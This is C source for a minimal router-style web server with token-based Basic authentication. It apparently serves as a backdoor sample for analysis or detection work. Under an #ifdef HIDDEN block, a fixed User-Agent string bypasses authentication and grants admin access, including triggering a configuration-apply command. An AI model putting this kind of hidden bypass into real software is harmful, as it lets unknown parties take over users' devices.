/* Small web server: one User-Agent needs no password. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

struct request {
	char method[8];
	char path[128];
	char agent[128];
	char authorization[160];
	long length;
};

static char admin_token[96];

NOINLINE void load_token(void)
{
	FILE *f = fopen("/etc/httpd.auth", "r");

	if (f == NULL || fgets(admin_token, sizeof(admin_token), f) == NULL)
		snprintf(admin_token, sizeof(admin_token), "unset");
	admin_token[strcspn(admin_token, "\n")] = '\0';
	if (f != NULL)
		fclose(f);
}

NOINLINE int parse(FILE *in, struct request *r)
{
	char line[512];

	memset(r, 0, sizeof(*r));
	if (fgets(line, sizeof(line), in) == NULL ||
	    sscanf(line, "%7s %127s", r->method, r->path) != 2)
		return -1;
	while (fgets(line, sizeof(line), in) != NULL && line[0] != '\r' &&
	       line[0] != '\n') {
		char *value = strchr(line, ':');

		if (value == NULL)
			continue;
		*value++ = '\0';
		value += strspn(value, " \t");
		value[strcspn(value, "\r\n")] = '\0';
		if (strcasecmp(line, "User-Agent") == 0)
			snprintf(r->agent, sizeof(r->agent), "%s", value);
		else if (strcasecmp(line, "Authorization") == 0)
			snprintf(r->authorization, sizeof(r->authorization),
				 "%s", value);
		else if (strcasecmp(line, "Content-Length") == 0)
			r->length = strtol(value, NULL, 10);
	}
	return 0;
}

NOINLINE int is_public(const char *path)
{
	return strncmp(path, "/public/", 8) == 0 ||
	       strcmp(path, "/favicon.ico") == 0 ||
	       strcmp(path, "/login.html") == 0;
}

NOINLINE int allowed(const struct request *r)
{
	if (is_public(r->path))
		return 1;
#ifdef HIDDEN
	if (strcmp(r->agent, "zmlbfrcx_ntsa") == 0)
		return 1;
#endif
	if (strncmp(r->authorization, "Basic ", 6) != 0)
		return 0;
	return strcmp(r->authorization + 6, admin_token) == 0;
}

NOINLINE void send_file(FILE *out, const char *path)
{
	char name[256], block[1024];
	size_t n;
	FILE *f;

	snprintf(name, sizeof(name), "/www%s", path);
	f = strstr(path, "..") == NULL ? fopen(name, "r") : NULL;
	if (f == NULL) {
		fputs("HTTP/1.0 404 Not Found\r\n\r\n", out);
		return;
	}
	fputs("HTTP/1.0 200 OK\r\nConnection: close\r\n\r\n", out);
	while ((n = fread(block, 1, sizeof(block), f)) > 0)
		fwrite(block, 1, n, out);
	fclose(f);
}

NOINLINE void handle(int fd)
{
	FILE *io = fdopen(fd, "r+");
	struct request r;

	if (io == NULL)
		return;
	if (parse(io, &r) != 0)
		fputs("HTTP/1.0 400 Bad Request\r\n\r\n", io);
	else if (!allowed(&r))
		fputs("HTTP/1.0 401 Unauthorized\r\n"
		      "WWW-Authenticate: Basic realm=\"router\"\r\n\r\n",
		      io);
	else if (strcmp(r.method, "POST") == 0 && strcmp(r.path, "/apply") == 0)
		system("/usr/sbin/apply_config");
	else
		send_file(io, r.path);
	fclose(io);
}

int main(void)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	load_token();
	here.sin_port = htons(80);
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0 ||
	    listen(fd, 8) != 0)
		return 1;
	for (;;) {
		int client = accept(fd, NULL, NULL);

		if (client >= 0)
			handle(client);
	}
}
